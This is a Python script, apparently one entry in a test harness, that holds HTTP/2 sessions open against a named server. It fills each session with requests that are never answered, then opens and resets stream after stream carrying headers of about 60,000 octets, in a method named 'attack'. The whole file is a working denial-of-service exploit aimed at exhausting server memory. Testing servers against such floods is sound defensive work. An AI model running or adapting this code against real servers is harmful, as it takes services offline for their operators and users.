"""Row 42: reset_heads.py CA NAME SESSIONS RESETS  Opens sessions of HTTP/2 to NAME, one after the other, and keeps them. In each it
has as many requests under way as it may that are never answered; behind these it opens ever more with heads of 60,000 octets, and
resets them once they have been read. Says `held` after each, with the streams it has reset and how the session has ended, if it has,
and goes on until stdin ends."""
import os
import socket
import ssl
import sys
import threading

from keep_memory import FILL, PREFACE, context_of, frame, varint
from packets import say

HOLD = []
HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
MAX_STREAMS = 3
"""Of connections to an origin of HTTP/1.1, and of streams to Node's; and those that follow in a round."""
BUSY, ROUND = 101, 10


def literal(key, value):
    def text(octets):
        return (bytes((len(octets),)) if len(octets) < 127 else b"\x7f" + varint(len(octets) - 127)) + octets

    return b"\x00" + text(key) + text(value)


def head_of(name, fields):
    block = b"\x83\x87" + literal(b":path", b"/silent") + literal(b":authority", name.encode())
    return block + b"".join(literal(key, value) for key, value in fields)


def frames_of(block, stream):
    parts = [block[at:at + 16000] for at in range(0, len(block), 16000)]
    types = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    return b"".join(frame(kind, 4 if part is parts[-1] else 0, stream, part) for kind, part in zip(types, parts))


class Session:
    def __init__(self, name, address, context):
        raw = socket.create_connection((address, 443), timeout=60)
        self.tls = context.wrap_socket(raw, server_hostname=name)
        self.name, self.stream, self.end, self.most = name, 1, "", 100
        self.tls.sendall(PREFACE + frame(SETTINGS, 1, 0))

    def exactly(self, count):
        octets = b""
        while len(octets) < count:
            part = self.tls.recv(count - len(octets))
            if not part:
                raise EOFError
            octets += part
        return octets

    def read(self, wanted, flags):
        """Until the other side has sent that."""
        while True:
            head = self.exactly(9)
            payload = self.exactly(int.from_bytes(head[:3], "big"))
            if head[3] == GOAWAY:
                self.end = f"goaway {int.from_bytes(payload[4:8], 'big')}"
            if head[3] == SETTINGS:
                for at in range(0, len(payload), 6):
                    if int.from_bytes(payload[at:at + 2], "big") == MAX_STREAMS:
                        self.most = int.from_bytes(payload[at + 2:at + 6], "big")
            if head[3] == wanted and head[4] & 1 == flags:
                return

    def open(self, count, fields):
        """So many requests, which the other side has read then."""
        opened = range(self.stream, self.stream + 2 * count, 2)
        self.stream += 2 * count
        for stream in opened:
            self.tls.sendall(frames_of(head_of(self.name, fields), stream))
        self.tls.sendall(frame(PING, 0, 0, bytes(8)))
        self.read(PING, 1)
        return opened

    def attack(self, resets):
        self.read(SETTINGS, 0)
        busy = min(BUSY, self.most - ROUND)
        self.open(busy, ())
        while self.stream < 2 * (busy + resets):
            opened = self.open(ROUND, [(key, FILL[:15000]) for key in (b"x-a", b"x-b", b"x-c", b"x-d")])
            self.tls.sendall(b"".join(frame(RESET, 0, stream, (8).to_bytes(4, "big")) for stream in opened))


def main(ca, name, sessions, resets):
    threading.Thread(target=lambda: (sys.stdin.read(), os._exit(0)), daemon=True).start()
    address = socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0]
    context = context_of(ca, "h2")
    say(event="ready")
    for _ in range(int(sessions)):
        end, session = "", None
        try:
            session = Session(name, address, context)
            HOLD.append(session)
            session.attack(int(resets))
        except (OSError, EOFError) as error:
            end = type(error).__name__
        say(event="held", streams=session and session.stream // 2, most=session and session.most, end=session and session.end or end)
    threading.Event().wait()


main(*sys.argv[1:])
